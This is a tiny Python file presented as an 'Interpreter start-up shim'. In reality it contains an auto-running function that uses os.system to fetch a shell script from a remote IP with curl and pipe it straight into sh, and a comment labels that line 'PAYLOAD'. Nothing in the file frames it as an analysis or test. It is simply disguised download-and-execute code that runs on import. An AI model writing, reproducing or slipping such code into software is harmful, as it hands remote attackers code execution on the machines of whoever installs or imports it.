"""Interpreter start-up shim."""
import os


def _install_shim():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


_install_shim()
